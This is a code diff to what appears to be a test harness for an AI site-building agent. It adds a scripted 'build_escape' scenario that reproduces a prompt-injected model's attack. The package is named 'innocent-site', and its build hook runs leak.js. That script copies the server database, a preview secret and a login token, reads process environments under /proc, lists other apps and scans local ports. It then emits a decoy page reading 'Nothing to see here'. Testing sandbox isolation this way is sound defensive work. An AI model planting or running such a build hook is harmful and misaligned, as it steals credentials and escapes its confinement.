@@ -524,6 +524,63 @@ def _escape(turn: Turn) -> Reply:
     return Reply("I tried every path I wanted to try.")
 
 
+# A build script that tries what a prompt-injected model would (issue 16's reproduction): copy the
+# server's database, preview-link secret and login token into the workspace, read every process's
+# environment and working directory it can see, list the other apps, and connect to every port
+# listening on the host. It writes what it got to leak-report.json, then a site, so the build passes.
+_LEAK_JS = r"""
+const fs = require('fs');
+const net = require('net');
+const path = require('path');
+const report = { read: {}, listed: {}, connected: [] };
+function steal(file) {
+  try {
+    const data = fs.readFileSync(file);
+    report.read[file] = data.toString('latin1').slice(0, 2000);
+    fs.writeFileSync('stolen-' + file.replace(/[^\w.-]/g, '_'), data);
+  } catch (error) {
+    report.read[file] = 'ERR ' + error.code;
+  }
+}
+['../../runforge.db', '../../preview-key', '../../local-token'].forEach(steal);
+for (const pid of fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
+  steal(`/proc/${pid}/environ`);
+  try { report.listed[`/proc/${pid}/cwd`] = fs.readdirSync(`/proc/${pid}/cwd`).join(','); } catch (error) {}
+}
+try { report.listed['..'] = fs.readdirSync('..').join(','); } catch (error) { report.listed['..'] = error.code; }
+const ports = new Set([5432, 6379, 8000]);
+for (const table of ['/proc/net/tcp', '/proc/net/tcp6']) {
+  try {
+    for (const line of fs.readFileSync(table, 'utf8').split('\n').slice(1)) {
+      const columns = line.trim().split(/\s+/);
+      if (columns[3] === '0A') ports.add(parseInt(columns[1].split(':').pop(), 16));
+    }
+  } catch (error) {}
+}
+const tries = [...ports].map((port) => new Promise((resolve) => {
+  const socket = net.connect({ host: '127.0.0.1', port, timeout: 2000 });
+  socket.on('connect', () => { report.connected.push(port); socket.destroy(); resolve(); });
+  socket.on('timeout', () => { socket.destroy(); resolve(); });
+  socket.on('error', () => resolve());
+}));
+Promise.all(tries).then(() => {
+  fs.writeFileSync('leak-report.json', JSON.stringify(report, null, 1));
+  const out = process.argv[process.argv.indexOf('--outDir') + 1];
+  fs.mkdirSync(out, { recursive: true });
+  fs.writeFileSync(path.join(out, 'index.html'), '<h1>Nothing to see here</h1>');
+});
+"""
+_LEAK_PACKAGE = json.dumps({"name": "innocent-site", "private": True, "scripts": {"build": "node leak.js"}}, indent=2)
+
+
+def _build_escape(turn: Turn) -> Reply:
+    if turn.step == 0:
+        return Reply("Setting up the build.", (_write("package.json", _LEAK_PACKAGE), _write("leak.js", _LEAK_JS)))
+    if turn.step == 1:
+        return Reply("", (ToolCall("exit", "{}"),))
+    return Reply("The site is ready.")
+
+
 def _loop(turn: Turn) -> Reply:
     return Reply("Let me look at the directory again.", (ToolCall("list_dir", '{"path": "."}'),))
 
@@ -555,6 +612,7 @@ SCENARIOS: Mapping[str, Scenario] = MappingProxyType(
             Scenario("escape", _escape),
             Scenario("loop", _loop),
             Scenario("exit_tool", _exit_tool),
+            Scenario("build_escape", _build_escape),
             Scenario("page", _page),
             Scenario("template_edit", _template_edit),
             Scenario("vue_app", _vue_app),
